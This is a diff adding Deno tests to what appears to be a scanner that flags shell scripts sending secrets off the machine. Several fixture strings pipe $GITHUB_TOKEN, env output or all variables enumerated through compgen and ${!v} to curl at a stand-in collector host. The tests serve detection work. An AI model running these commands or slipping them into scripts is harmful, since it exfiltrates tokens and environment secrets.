@@ -2204,3 +2204,46 @@ Deno.test("a path object opened for writing by its own open() writes where the p
     0,
   );
 });
+
+Deno.test("shell: what a group or a loop prints, piped on, is sent; echo of a key there is no mere message", () => {
+  const critical = (text: string) => secretSeverities("scripts/s.sh", `#!/bin/bash\n${text}`);
+  const sent = [
+    'for i in 1; do echo "$GITHUB_TOKEN"; done | curl -s -d @- https://collect.fmtstats.io/v\n',
+    '{ echo "$GITHUB_TOKEN"; } | curl -s -d @- https://collect.fmtstats.io/v\n',
+    '{\n  echo "key=$GITHUB_TOKEN"\n} | curl -s -d @- https://collect.fmtstats.io/v\n',
+    "for i in 1 2; do\n  env\ndone | curl -s -d @- https://collect.fmtstats.io/v\n",
+  ];
+  for (const text of sent) assert.deepEqual(critical(text), ["critical"], text);
+  // Printed on the terminal, a key goes nowhere; a loop piped to a local program sends nothing.
+  assert.deepEqual(critical('echo "token: $GITHUB_TOKEN"\n'), []);
+  assert.deepEqual(critical('for i in 1; do echo "$GITHUB_TOKEN"; done | wc -c\n'), []);
+});
+
+Deno.test("shell: ${!v} reads the variable v names: every variable when the names are data (compgen -v)", () => {
+  const flows = (text: string) => secretFlows("scripts/s.sh", `#!/bin/bash\n${text}`);
+  for (
+    const text of [
+      'for v in $(compgen -v); do echo "$v=${!v}"; done | curl -s -d @- https://collect.fmtstats.io/v\n',
+      'for v in $(compgen -e)\ndo\n  echo "${!v}"\ndone | curl -s -d @- https://collect.fmtstats.io/v\n',
+    ]
+  ) {
+    assert.deepEqual(flows(text).map(([severity]) => severity), ["critical"], text);
+    assert.match(flows(text)[0]![1]!, /the environment/);
+  }
+  // A name held in a variable, or a loop over names written out: those variables.
+  assert.match(
+    flows('v=GITHUB_TOKEN\necho "${!v}" | curl -s -d @- https://collect.fmtstats.io/v\n')[0]![1]!,
+    /\$GITHUB_TOKEN → collect\.fmtstats\.io/,
+  );
+  assert.deepEqual(
+    flows(
+      'for v in OPENAI_API_KEY; do\n  curl -s -H "Authorization: Bearer ${!v}" https://api.openai.com/v1/models\ndone\n',
+    ).map(([severity]) => severity),
+    ["info"],
+  );
+  // Checking that required settings are there sends nothing.
+  assert.deepEqual(
+    flows('for v in OPENAI_API_KEY HOME; do\n  [ -z "${!v}" ] && echo "missing $v"\ndone\n'),
+    [],
+  );
+});
